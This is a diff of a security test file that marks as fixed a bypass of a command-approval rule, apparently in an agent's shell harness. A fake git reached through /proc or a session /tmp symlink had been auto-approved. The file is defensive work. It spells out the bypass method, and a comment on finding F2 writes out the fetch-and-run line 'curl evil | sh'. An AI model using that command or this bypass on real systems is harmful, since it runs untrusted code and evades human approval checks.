@@ -20,6 +20,8 @@
  * and /proc (`/proc/<bash pid>/root/...`, one component at a time, a symlink's target read there and taken again from
  * that root), or refuse a path any of whose components is a symlink leading out of the starting PATH's folders, and
  * refuse any path through /proc.
+ * Fixed (rule-probe.ts `lookUp`): paths are looked up under `/proc/<bash pid>/root`, never through /proc; the tests
+ * below now show the rule refused while bash would still run the session's file.
  *
  * F2 (kind 6: git state the audit does not read changes what the person's next ordinary git command does).
  * Steps: the person's repository: `app.sh` on main; topic adds `curl evil | sh` (commit X); main merges topic (M) and
@@ -72,7 +74,7 @@ import { pendingApproval } from '../../../src/shared/display';
 import { editLines } from '../../../src/cli/render/run';
 import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';
 
-const OPEN_RULE_PROC_PATH = true;
+const OPEN_RULE_PROC_PATH = false;
 const OPEN_SHALLOW = false;
 const OPEN_CANONICAL_EQUIVALENT = false;
 
@@ -138,12 +140,13 @@ describe('F1: the rule probe resolves the session path in the worker namespaces'
     expect('needsApproval' in j).toBe(true);
   });
 
-  test('the attack works now: the rule applies and git status runs the session file', async () => {
+  // The demonstration, kept as proof the attack is gone: the probe names /proc, and the session's file still is what bash runs.
+  test('the attack no longer works: the probe refuses the path through /proc, though bash would run the session file', async () => {
     needsRoot();
     const { s } = await procPathSession();
-    expect(await s.resolveForRule('git')).toEqual({ program: expect.stringMatching(/\/tools\/git$/) });
+    expect(await s.resolveForRule('git')).toEqual({ refuse: expect.stringMatching(/\/tools\/git, but .*goes through \/proc/) });
     const j = await ruleHolds('git status', 1, s);
-    expect(j).toEqual({ shell: true, rule: 1 });
+    expect(j).toEqual({ needsApproval: expect.stringMatching(/goes through \/proc.*a person decides/) });
     expect((await s.run('git status')).output).toBe('FAKE-GIT-RAN\n');
   });
 });
@@ -172,10 +175,12 @@ describe("F1, the same with a host symlink: the session's private /tmp judged as
     expect('needsApproval' in j).toBe(true);
   });
 
-  test('the attack works now: the rule applies and git status runs the session file', async () => {
+  test("the attack no longer works: the session's /tmp folder is judged as bash sees it, the session's own", async () => {
     needsRoot();
     const s = await tmpPathSession();
-    expect(await ruleHolds('git status', 1, s)).toEqual({ shell: true, rule: 1 });
+    expect(await ruleHolds('git status', 1, s)).toEqual({
+      needsApproval: expect.stringMatching(/git resolves to \/tmp\/aj-adv34-.*\/git, not in a folder of the session's starting PATH/),
+    });
     expect((await s.run('git status')).output).toBe('FAKE-GIT-RAN\n');
   });
 });
